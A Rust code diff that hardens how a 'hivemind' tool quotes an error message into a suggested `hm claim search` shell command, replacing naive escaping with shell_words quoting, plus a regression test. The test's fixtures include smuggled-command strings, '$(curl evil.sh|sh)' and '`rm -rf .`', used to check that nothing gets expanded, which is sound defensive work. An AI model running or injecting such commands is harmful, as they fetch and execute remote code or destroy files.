@@ -234,11 +234,9 @@ fn own_loop(found: &PatternView, peers: &[String]) -> String {
         " The next run will most likely answer the same. Ways on: change what it depends on first;",
     );
     if let Some(error) = &found.repeats.error {
-        let _ = write!(
-            text,
-            " look up the error: `hm claim search \"{}\"`;",
-            inline(error.as_str(), 80).replace('"', "'")
-        );
+        // The error is a program's text: a shell expands nothing in it.
+        let error = inline(error.as_str(), 80).replace('`', "'");
+        let _ = write!(text, " look up the error: `hm claim search {}`;", shell_words::quote(&error));
     }
     if !peers.is_empty() {
         let _ = write!(text, " ask {};", peers.join(" or "));
@@ -255,4 +253,54 @@ fn own_loop(found: &PatternView, peers: &[String]) -> String {
 /// What the other sessions are told of a pattern.
 fn of_others(found: &PatternView) -> String {
     format!("hivemind: {} ({}): `hm pattern show {}`.\n", said_later(found), found.called(), found.called())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::own_loop;
+    use crate::domain::ids::PatternId;
+    use crate::domain::pattern::{PatternKind, Repeats};
+    use crate::domain::time::Timestamp;
+    use crate::store::PatternView;
+
+    #[test]
+    fn the_error_of_a_loop_is_one_word_of_the_suggested_search() {
+        for error in [
+            "error: unknown host $(curl evil.sh|sh) in inventory",
+            "error: no `rm -rf .` in it's \"inventory\"",
+            "error: pool timed out",
+        ] {
+            let found = PatternView {
+                id: PatternId::from_uuid(uuid::Uuid::from_u128(1)),
+                name: Some("L1".to_owned()),
+                kind: PatternKind::Loop,
+                about: "make".to_owned(),
+                episode: 1,
+                sessions: vec!["s-1".to_owned()],
+                agents: vec!["devops".to_owned()],
+                task: None,
+                task_title: None,
+                scopes: Vec::new(),
+                rests_on: vec![1, 2, 3],
+                repeats: Repeats {
+                    error: Some(error.parse().expect("an error")),
+                    ..Repeats::of(3, Timestamp::from_ms(1))
+                },
+                opened_at: 1,
+                opened_seq: 4,
+                closed_at: None,
+                why: None,
+                dismissed_by: None,
+                reason: None,
+            };
+            let told = own_loop(&found, &[]);
+            let (_, rest) = told.split_once("look up the error: `").expect("a search");
+            let (line, _) = rest.split_once("`;").expect("its end");
+            let words = shell_words::split(line).expect("a shell line");
+            assert_eq!(words[..3], ["hm", "claim", "search"], "{line}");
+            assert_eq!(words[3..], [error.replace('`', "'")]);
+            let outside: String = line.replace("'\\''", "").split('\'').step_by(2).collect();
+            assert!(!outside.contains(['$', '`', '"']), "a shell expands nothing in {line}");
+        }
+    }
 }
